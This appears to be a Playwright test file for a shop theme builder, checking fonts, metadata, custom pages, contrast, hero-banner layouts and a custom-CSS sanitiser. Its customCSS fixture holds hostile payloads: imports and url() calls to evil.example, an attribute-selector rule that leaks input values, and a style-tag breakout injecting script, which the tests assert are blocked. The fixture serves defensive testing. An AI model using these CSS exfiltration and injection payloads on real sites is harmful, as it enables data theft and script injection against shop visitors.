import { expect, type Locator, type Page } from 'playwright/test'
import { expectAccessible } from './fixtures/accessibility'
import { aListing, cornerStore } from './fixtures/corner-store'
import { test } from './fixtures/test'

const customCSS = `
  @import "https://evil.example/a.css";
  @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
  h2 { letter-spacing: 0.125em; background: url(https://evil.example/x.png); position: fixed }
  body { background: #fff6e0 }
  header { background: #ff0000 }
  input[value^=a] { background: url(https://evil.example/a) }
  </style><script>document.title = 'taken'</script>`

test.use({
  storeFile: cornerStore({
    theme: {
      meta: { seoTitle: { keywords: 'tees, lighthouse' } },
      styles: {
        primaryColor: '#0b3d91',
        fonts: ['Oswald', 'Lora'],
        customCSS,
        heroBanner: { template: 5 },
        button: { primary: { backgroundColor: '#ffe600', color: '#ffee33' } },
      },
      content: {
        heroBanner: { title: 'By the sea', showSearch: true, searchPlaceholder: 'Look for a tee' },
        pages: [
          { slug: 'faq', title: 'Questions', text: 'Do you ship?\n\nYes.' },
          { slug: 'goods', title: 'Never seen', text: 'The collection comes first.' },
        ],
      },
    },
  }),
})

/** Every URL that a page requests. */
function requestsOf(page: Page): URL[] {
  const urls: URL[] = []
  page.on('request', (request) => urls.push(new URL(request.url())))
  return urls
}

test('a shop uses the two font families of its theme and loads no other font file', { tag: '@core' }, async ({
  page,
  shop,
}) => {
  const urls = requestsOf(page)
  await page.goto(shop.url)
  await page.evaluate(() => document.fonts.ready.then(() => undefined))
  const fonts = urls.map(({ pathname }) => pathname).filter((path) => path.endsWith('.woff2'))
  expect(new Set(fonts.map((path) => /media\/([a-z-]+-latin)/.exec(path)?.[1]))).toEqual(
    new Set(['lora-latin', 'oswald-display-latin']),
  )
  await expect(page.locator('link[rel=preload][as=font]')).toHaveAttribute('href', /lora-latin/)
  const family = (role: Parameters<Page['getByRole']>[0]) =>
    page
      .getByRole(role)
      .first()
      .evaluate((element) => getComputedStyle(element).fontFamily)
  expect(await family('heading')).toContain('Oswald')
  expect(await family('paragraph')).toContain('Lora')
})

test('custom CSS changes only the content of the shop and loads nothing from other hosts', { tag: '@core' }, async ({
  page,
  shop,
}) => {
  const urls = requestsOf(page)
  await page.goto(shop.url)
  const title = page.getByRole('heading', { level: 2, name: 'Goods' }).first()
  await expect(title).toHaveCSS('position', 'static')
  expect(await title.evaluate((element) => Number.parseFloat(getComputedStyle(element).letterSpacing))).toBeGreaterThan(
    2,
  )
  await expect(page.locator('.shop-content')).toHaveCSS('background-color', 'rgb(255, 246, 224)')
  await expect(page.getByRole('banner')).not.toHaveCSS('background-color', 'rgb(255, 0, 0)')
  await expect(page).not.toHaveTitle('taken')
  expect(urls.filter(({ host }) => host !== new URL(shop.url).host)).toEqual([])
  await page.goto(`${shop.url}/thankyou`)
  expect(await page.content()).not.toContain('0.125em')
})

test('the head of the home page contains the metadata of the theme', async ({ page, shop }) => {
  await page.goto(shop.url)
  await expect(page.locator('meta[name=keywords]')).toHaveAttribute('content', 'tees, lighthouse')
  await expect(page.locator('meta[property="og:site_name"]')).toHaveAttribute('content', 'Corner Shop')
  await expect(page.locator('link[rel=icon]').first()).toHaveAttribute('href', /^data:image\/svg\+xml/)
})

// Requirements: 2.13, C2.501
test('a custom page has its own URL, and a collection with the same name takes precedence', async ({ page, shop }) => {
  const own = await page.goto(`${shop.url}/faq`)
  expect(own?.status()).toBe(200)
  await expect(page.getByRole('heading', { level: 1, name: 'Questions' })).toBeVisible()
  await expect(page).toHaveTitle('Questions | Corner Shop')
  await page.goto(`${shop.url}/goods`)
  await expect(page.getByRole('heading', { level: 1, name: 'Goods collection' })).toBeVisible()
})

test('labels and controls on a dark stage are readable', async ({ page, anotherShop }) => {
  const { url } = await anotherShop(
    cornerStore({
      theme: {
        styles: { tokens: { stage: 'dark' } },
        content: { categories: [{ slug: 'goods', displayName: 'All of it' }] },
      },
    }),
  )
  const colorsOf = (label: Locator) =>
    label.evaluate((element) => {
      const { color, backgroundColor } = getComputedStyle(element)
      return [color, backgroundColor]
    })
  const expectReadable = async (label: Locator) => {
    const [color, background] = await colorsOf(label)
    expect(color).not.toBe(background)
    // The text of the page, and not the light text of the stage.
    expect(color).toBe(await page.locator('body').evaluate((body) => getComputedStyle(body).color))
  }
  await page.goto(url)
  await expectReadable(page.getByText('All of it').locator('xpath=..'))
  await page.goto(`${url}/listing/corner-tee`)
  await page.getByRole('button', { name: 'Zoom in on image 1' }).click()
  const viewer = page.getByRole('dialog')
  await expectReadable(viewer.getByRole('button', { name: 'Close' }))
  await expectReadable(viewer.getByText('100%'))
})

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  // Requirements: 2.1
  test('the hero search opens the search page with its term', async ({ page, shop }) => {
    await page.goto(shop.url)
    await page.getByRole('main').getByRole('combobox').fill('corner tee')
    await page.keyboard.press('Enter')
    await expect(page).toHaveURL(`${shop.url}/search?searchterm=corner+tee`)
  })
})

for (const [template, primaryColor] of [
  [1, '#ffe600'],
  [2, '#b00020'],
  [3, '#00c2ff'],
  [4, '#7f7f7f'],
  [5, '#ff2d95'],
] as const)
  test(`hero template ${template} is accessible and does not overflow at any width`, async ({ page, anotherShop }) => {
    const { url } = await anotherShop(
      cornerStore({
        listings: ['one', 'two', 'three', 'four'].map((slug) => aListing({ slug, title: `Tee ${slug}` })),
        theme: {
          styles: { primaryColor, heroBanner: { template } },
          content: {
            heroBanner: {
              title: 'Extraordinarilylongwindedcommemorativeanniversarygarments of the northern lighthouse by the sea',
              subtitle: 'Goods from the lighthouse',
              body: 'Printed to order.',
              titleBadge: 'Drop 07',
              ctaText: 'Shop the drop',
              ctaLink: '/goods',
              showSearch: true,
            },
            categories: [{ slug: 'goods', displayName: 'Goods' }],
          },
        },
      }),
    )
    for (const width of [320, 768, 1440]) {
      await page.setViewportSize({ width, height: 800 })
      await page.goto(url)
      await expect(page.getByRole('heading', { level: 1 })).toHaveAccessibleName(/^Extraordinarily/)
      expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0)
    }
    await expectAccessible(page)
  })

const heroShop = (template: number) =>
  cornerStore({
    theme: {
      styles: { heroBanner: { template } },
      content: {
        heroBanner: {
          title: 'Made for the long way home',
          subtitle: 'Goods from 91.4 FM, the station above the laundromat.',
          body: 'Heavyweight cotton, printed to order. Ships in 3 to 5 days.',
          titleBadge: 'Drop 07',
          ctaText: 'Shop the drop',
          ctaLink: '/goods',
        },
      },
    },
  })

test('the button of the split hero is in the first view of a phone', async ({ page, anotherShop }) => {
  const { url } = await anotherShop(heroShop(1))
  await page.setViewportSize({ width: 390, height: 800 })
  await page.goto(url)
  await expect(page.getByRole('main').locator('img').first()).toBeInViewport()
  await expect(page.getByRole('link', { name: 'Shop the drop' })).toBeInViewport({ ratio: 1 })
})

test('the title of the full-bleed hero is on the opaque part of its scrim on wide screens', async ({
  page,
  anotherShop,
}) => {
  const { url } = await anotherShop(heroShop(2))
  await page.goto(url)
  for (const width of [992, 1440, 1521, 1920, 2560]) {
    await page.setViewportSize({ width, height: 800 })
    const mask = await page.locator('.hero-scrim').evaluate((scrim) => getComputedStyle(scrim).maskImage)
    const fromCenter = /^linear-gradient\(to right, rgb\(0, 0, 0\) calc\(50% - ([\d.]+)px\)/.exec(mask)?.[1]
    const title = await page.getByRole('heading', { level: 1 }).boundingBox()
    expect(title && title.x + title.width).toBeLessThanOrEqual(width / 2 - Number(fromCenter))
  }
})

test('a last section with its own ground extends to the footer', async ({ page, anotherShop }) => {
  const sections = [{ title: 'We print by the sea' }, { title: 'Four generations', ground: 'soft' }]
  const { url } = await anotherShop(cornerStore({ theme: { content: { sections } } }))
  await page.goto(url)
  const section = await page
    .locator('section', { has: page.getByRole('heading', { name: 'Four generations' }) })
    .boundingBox()
  const footer = await page.getByRole('contentinfo').boundingBox()
  expect(section && section.y + section.height).toBeCloseTo(footer?.y ?? 0, 0)
})
